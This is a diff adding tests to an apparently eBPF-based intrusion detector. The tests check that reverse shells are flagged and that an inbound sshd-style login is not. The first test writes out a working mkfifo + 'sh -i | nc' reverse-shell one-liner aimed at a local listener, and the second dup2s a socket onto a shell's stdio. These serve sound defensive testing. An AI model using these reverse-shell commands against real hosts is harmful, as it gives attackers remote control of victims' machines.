@@ -1,5 +1,6 @@
 import { spawn, spawnSync } from 'node:child_process';
-import { existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { EbpfStreams, defaultBpfDir } from '@ainka/ebpf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -82,6 +83,71 @@ os.wait()`);
     expect(a.severity).toBe('critical');
     expect(a.latencyMs).toBeGreaterThan(0);
     expect(a.response).toMatchObject({ action: 'kill', status: 'proposed' });
+  });
+
+  it.skipIf(!existsSync('/bin/nc') && !existsSync('/usr/bin/nc'))('reverse shell through a pipeline: mkfifo + nc, no socket on the shell', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'ainka-fifo-'));
+    // the attacker: accepts, sends a command and an exit a second later (a person types), and records what came back
+    const attacker = spawn('python3', ['-c', `import socket, sys, time
+l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1); print(l.getsockname()[1], flush=True)
+c, _ = l.accept(); time.sleep(1); c.sendall(b'echo pwned-$((6*7)); exit\\n'); c.settimeout(10)
+out = b''
+while True:
+    b = c.recv(4096)
+    if not b: break
+    out += b
+    if b'pwned-42' in out: break
+print(out.decode(errors='replace'), flush=True)`], { stdio: ['ignore', 'pipe', 'inherit'] });
+    let heard = '';
+    attacker.stdout.on('data', (b: Buffer) => (heard += b.toString()));
+    expect(await until(() => /^\d+\n/.test(heard))).toBe(true);
+    const port = Number(heard.split('\n')[0]);
+    const victim = spawn('bash', ['-c', `rm -f ${dir}/f; mkfifo ${dir}/f; sh -i < ${dir}/f 2>&1 | nc 127.0.0.1 ${port} > ${dir}/f`], { stdio: 'ignore' });
+    try {
+      const seen = await until(() => !!of("reverse-shell-pipe", (a) => a.event.proc.ppid === victim.pid), 10_000);
+      expect(seen).toBe(true);
+      expect(await until(() => /pwned-42/.test(heard), 10_000)).toBe(true); // the shell really served the attacker
+      const a = of('reverse-shell-pipe', (x) => x.event.proc.ppid === victim.pid)!;
+      expect(a.severity).toBe('critical');
+      expect(a.tree).toMatch(new RegExp(`bash\\(${victim.pid}\\) → (sh|nc)\\(\\d+\\)$`));
+      // one alert per pipeline, whether the shell's exec or nc's connect was seen last
+      expect(alerts.filter((x) => x.rule === 'reverse-shell-pipe' && x.event.proc.ppid === victim.pid)).toHaveLength(1);
+    } finally {
+      victim.kill('SIGKILL');
+      attacker.kill('SIGKILL');
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it("an operator's login on an accepted connection (sshd -i style) is no reverse shell; the same program connecting out is", async () => {
+    // a login service named sshd (python3 under that name) that puts a connection on its stdio and starts a shell
+    const dir = mkdtempSync(join(tmpdir(), 'ainka-sshd-'));
+    copyFileSync(process.platform === 'linux' ? realpathSync('/usr/bin/python3') : 'python3', join(dir, 'sshd'));
+    chmodSync(join(dir, 'sshd'), 0o755);
+    const login = (inbound: boolean): Promise<number> =>
+      new Promise((resolve, reject) => {
+        const child = spawn(join(dir, 'sshd'), ['-c', `import socket, os, time
+l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen(1)
+c = socket.create_connection(l.getsockname()); a, _ = l.accept()
+s = a if ${inbound ? 'True' : 'False'} else c
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
+if os.fork() == 0:
+    os.execv('/bin/bash', ['bash', '-c', 'exit 0'])
+os.wait()
+time.sleep(2)  # the login lasts a while after its first command, as a session does`], { stdio: ['ignore', 'ignore', 'inherit'] });
+        child.on('error', reject);
+        child.on('exit', () => resolve(child.pid!));
+      });
+    try {
+      const outbound = await login(false);
+      expect(await until(() => !!of('reverse-shell', (a) => a.event.proc.ppid === outbound))).toBe(true);
+      const inbound = await login(true);
+      // the outbound one was reported within this time above; give the inbound one the same chance
+      await new Promise((r) => setTimeout(r, 2000));
+      expect(alerts.filter((a) => a.event.proc.ppid === inbound || a.event.proc.pid === inbound).map((a) => a.rule)).toEqual([]);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 
   it('shell spawned by a network service (a process holding a listening socket)', async () => {
